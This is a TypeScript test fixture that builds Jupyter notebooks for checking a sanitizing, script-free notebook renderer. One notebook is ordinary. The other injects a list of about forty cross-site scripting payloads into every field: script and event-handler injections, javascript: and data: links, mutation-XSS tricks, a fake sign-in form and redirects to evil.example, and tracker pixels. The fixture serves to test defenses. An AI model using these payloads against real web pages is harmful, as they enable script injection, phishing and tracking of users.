/** Notebooks for the page without scripts: one with everything a reader may meet, one by somebody who means harm. */
import type { NotebookContent } from '#lib/model/ipynb/content.ts';
import type { NbOutput } from '#lib/model/ipynb/nb-output.ts';
import type { Cell } from '#lib/model/cell.ts';
import type { Json, JsonObject } from '#lib/model/json.ts';

/** One pixel, as PNG. */
export const PIXEL =
	'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export const PLOT = `<svg xmlns="http://www.w3.org/2000/svg" width="432pt" height="216pt" viewBox="0 0 432 216"><rect width="432" height="216" fill="white"/><polyline fill="none" stroke="#2740c8" stroke-width="3" points="${Array.from({ length: 49 }, (_, i) => `${i * 9},${108 - 90 * Math.sin(i / 4)}`).join(' ')}"/></svg>`;

interface Given {
	source: string;
	type?: Cell['type'];
	outputs?: NbOutput[];
	metadata?: JsonObject;
	count?: number | null;
	attachments?: Cell['attachments'];
}

export function notebookOf(cells: Given[], metadata: JsonObject = {}): NotebookContent {
	const made = cells.map(({ type = 'code', source, metadata = {}, attachments }, i): Cell => ({
		...{ id: `c${i}`, type, source, metadata },
		...(attachments ? { attachments } : {})
	}));
	return {
		cells: made,
		outputs: Object.fromEntries(
			cells.flatMap(({ type = 'code', outputs = [], count = null }, i) =>
				type === 'code' ? [[`c${i}`, { outputs, executionCount: count }]] : []
			)
		),
		metadata
	};
}

export const text = (source: string): Given => ({ type: 'markdown', source });
export const stream = (words: string, name = 'stdout'): NbOutput => ({
	output_type: 'stream',
	name,
	text: words
});
export const shows = (data: Record<string, Json>, metadata: JsonObject = {}): NbOutput => ({
	...{ output_type: 'display_data', data, metadata }
});

const TABLE = `<div>
<style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
<table border="1" class="dataframe">
<thead><tr style="text-align: right;"><th></th><th>mass</th><th>width</th></tr></thead>
<tbody><tr><th>0</th><td>91.19</td><td>2.50</td></tr><tr><th>1</th><td>125.10</td><td>0.004</td></tr></tbody>
</table>
<p>2 rows × 2 columns</p>
</div>`;

export const INTERACTIVE =
	'<div id="t">waiting</div><script>document.getElementById("t").textContent = "ran in " + self.origin; try { parent.__xss = 1 } catch (e) {} fetch("/secret").catch(() => {})</script>';

/** Everything a reader may meet. */
export function fullNotebook(): NotebookContent {
	return notebookOf(
		[
			text(
				'---\ntitle: A fit\n---\n# A fit of the Z resonance\n\nWe fit $m_Z$ with\n\n$$\nf(E) = \\frac{k}{(E^2 - M^2)^2 + M^2\\Gamma^2},\\qquad k = \\frac{2\\sqrt{2} M \\Gamma \\gamma}{\\pi\\sqrt{M^2 + \\gamma}}\n$$\n\nand say **what** it means, see [the results](#The-results) or <https://example.org/paper>, and [the collaboration](https://example.org/about).'
			),
			text(
				'## Data\n\n| run | events |\n|---|---:|\n| A | 1 204 |\n| B | 981 |\n\n- first\n- second\n\n> A remark.\n\n```python\nprint("in a fence")\n```'
			),
			{
				source:
					'import numpy as np\n\ndef peak(x, m=91.19):\n    """Breit–Wigner."""\n    return 1 / ((x**2 - m**2) ** 2 + 1.0)  # natural units\n\nprint("events", 1204)',
				count: 1,
				outputs: [
					stream('events 1204\n\u001b[32mok\u001b[0m \u001b[1;31mred\u001b[0m\n'),
					stream('a warning\n', 'stderr')
				]
			},
			text('#### Plots'),
			{
				source: '#| fig-alt: The resonance at 91 GeV\nplot(x, y)',
				count: 2,
				outputs: [shows({ 'image/svg+xml': PLOT, 'text/plain': '<Figure size 640x480 with 1 Axes>' })]
			},
			{ source: 'table', count: 3, outputs: [shows({ 'text/html': TABLE, 'text/plain': '   mass' })] },
			{
				source: 'figure.show()',
				count: 4,
				outputs: [
					shows({
						'text/html': INTERACTIVE,
						'image/png': PIXEL,
						'application/vnd.plotly.v1+json': { data: [] }
					})
				]
			},
			{
				source: 'chart',
				count: 5,
				outputs: [
					shows({ 'application/vnd.vegalite.v5+json': { mark: 'bar' }, 'text/plain': 'alt.Chart(...)' }),
					shows({
						'application/vnd.jupyter.widget-view+json': { model_id: 'm' },
						'text/plain': 'IntSlider(value=3)'
					})
				]
			},
			{
				source: 'styled',
				count: 6,
				outputs: [
					shows({
						'text/html':
							'<style>td { color: teal }</style><table><tr><td>1</td></tr><tr><td>2</td></tr></table>'
					})
				]
			},
			{
				source: 'Math(r"\\sqrt{x}")',
				count: 7,
				outputs: [shows({ 'text/latex': 'so $\\sqrt{\\frac{a}{b}}$ it is' })]
			},
			{
				source: 'Markdown("…")',
				count: 8,
				outputs: [shows({ 'text/markdown': '# An output\n\n**bold** $x^2$' })]
			},
			{
				source: 'JSON(…)',
				count: 9,
				outputs: [shows({ 'application/json': { depth: { deeper: [1, 'two', null] }, on: true } })]
			},
			{
				source: '1/0',
				count: 10,
				outputs: [
					{
						output_type: 'error',
						ename: 'ZeroDivisionError',
						evalue: 'division by zero',
						traceback: [
							'\u001b[31mZeroDivisionError\u001b[39m  Traceback (most recent call last)',
							'Cell \u001b[32mIn[10]\u001b[39m\u001b[32m, line 1\u001b[39m\n\u001b[32m----> 1\u001b[39m 1/0',
							'\u001b[31mZeroDivisionError\u001b[39m: division by zero'
						]
					}
				]
			},
			text('## The results\n\nIt works. ![a pixel](attachment:p.png)'),
			{ source: '%%bash\nfor i in 1 2; do echo "$i"; done', count: 11, outputs: [stream('1\n2\n')] },
			{
				source: 'hidden_code()',
				count: 12,
				metadata: { tags: ['hide-input'] },
				outputs: [stream('shown although its code is folded\n')]
			},
			{
				source: 'noisy()',
				count: 13,
				metadata: { tags: ['hide-output'] },
				outputs: [stream('folded output\n')]
			},
			{
				source: 'secret_setup()',
				count: 14,
				metadata: { tags: ['remove-cell'] },
				outputs: [stream('never shown\n')]
			},
			{ type: 'raw', source: 'raw text' },
			{
				source: 'loop()',
				count: 15,
				outputs: [stream(Array.from({ length: 4000 }, (_, i) => `line ${i}\n`).join(''))]
			},
			{ source: 'not_run_yet()', count: null }
		].map((cell, i) =>
			i === 13 ? { ...cell, attachments: { 'p.png': { 'image/png': PIXEL } } } : cell
		) as Given[],
		{
			kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' },
			language_info: { name: 'python' }
		}
	);
}

/** Each must come out inert, wherever it stands. */
export const PAYLOADS = [
	'<script>window.__xss=1</script>',
	'<img src=x onerror="window.__xss=1">',
	'<svg/onload=window.__xss=1>',
	'<svg><style><img src=x onerror=window.__xss=1></style></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
	'<math href="javascript:window.__xss=1">x</math>',
	'<a href="javascript:window.__xss=1">click</a>',
	'<a href="jav&#x09;ascript:window.__xss=1">click</a>',
	'<a href="data:text/html,<script>window.__xss=1</script>">click</a>',
	'<b style="position:fixed;inset:0">over all</b>',
	'<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
	'<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
	'<object data="data:text/html,x"></object><embed src=x>',
	'<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
	'<link rel=stylesheet href="https://evil.example/x.css">',
	'<img src="https://tracker.example/pixel.png"><img srcset="https://tracker.example/2.png 2x">',
	'<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
	'<textarea></textarea><img src=x onerror=window.__xss=1>',
	'<xmp><img src=x onerror=window.__xss=1></xmp><plaintext>',
	'</div></div></main><h1 id="taken">out of the frame',
	'<table><tr><td background="https://tracker.example/x.png" id=cell-c0>x</td></tr></table>',
	'<details ontoggle=window.__xss=1 open>x</details>',
	'"><img src=x onerror=window.__xss=1>',
	"' onmouseover='window.__xss=1",
	'[click](javascript:window.__xss=1)',
	'[click](JaVaScRiPt:alert(1))',
	'[click](data:text/html;base64,PHNjcmlwdD4=)',
	'[click](//evil.example/x)',
	'![x](javascript:alert(1))',
	'![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	'![" onerror="window.__xss=1](attachment:x.png)',
	'![x](https://tracker.example/pixel.png)',
	'# <img src=x onerror=window.__xss=1>',
	'# "><img src=x onerror=window.__xss=1>',
	'$\\href{javascript:alert(1)}{x}$',
	'$\\includegraphics{https://tracker.example/x.png}$',
	'$\\htmlData{x=y}{z}$ $\\htmlStyle{position:fixed}{z}$ $\\htmlId{x}{y}$',
	'$$<img src=x onerror=alert(1)>$$',
	'$\\text{</annotation><script>window.__xss=1</script>}$',
	'```html\n<script>alert(1)</script>\n```',
	'\u001b]8;;javascript:window.__xss=1\u0007click\u001b]8;;\u0007',
	'\u001b[31m<img src=x onerror=window.__xss=1>\u001b[0m'
];

/** The payloads in every place where a notebook carries text, and bundles that are no bundles. */
export function hostileNotebook(): NotebookContent {
	const bad = (value: unknown): NbOutput => value as NbOutput;
	const cells: Given[] = PAYLOADS.flatMap((payload): Given[] => [
		{ ...text(payload), attachments: { [payload]: { 'image/png': payload, [payload]: payload } } },
		{
			source: payload,
			count: payload as unknown as number,
			metadata: { tags: [payload, 7] as Json },
			outputs: [
				stream(payload),
				stream(payload, payload),
				shows({ 'text/html': payload, 'text/plain': payload }),
				shows({ 'text/html': `<p>${payload.replaceAll('<script', '<b')}</p>` }),
				shows({ 'text/markdown': payload }),
				shows({ 'text/latex': payload }),
				shows({ 'application/json': { [payload]: [payload] } }),
				shows(
					{ 'image/png': PIXEL, 'text/plain': payload },
					{ alt: payload, width: payload, 'image/png': payload }
				),
				shows({ 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg">${payload}</svg>` }),
				shows({ [payload]: payload }),
				{ output_type: 'error', ename: payload, evalue: payload, traceback: [payload] }
			]
		}
	]);
	cells.push({
		source: 'bundles that are none',
		outputs: [
			shows({}),
			shows({ 'image/png': '' }),
			shows({ 'image/png': { a: 1 } }),
			shows({ 'image/png': 'not base64 at all!' }),
			shows({ 'image/svg+xml': 'no drawing' }),
			shows({ 'text/html': 42, 'text/plain': null }),
			shows({ 'text/plain': ['a', 1, 'b'] as Json }),
			shows({ 'application/json': '{broken' }),
			shows({ __proto__: null, constructor: 'x' } as Record<string, Json>),
			bad({ output_type: 'display_data', data: null, metadata: null }),
			bad({ output_type: 'execute_result' }),
			bad({ output_type: 'error' }),
			bad({ output_type: 'stream' }),
			bad({ output_type: 'unheard of' })
		]
	});
	return notebookOf(cells, { language_info: { name: 'constructor' } });
}
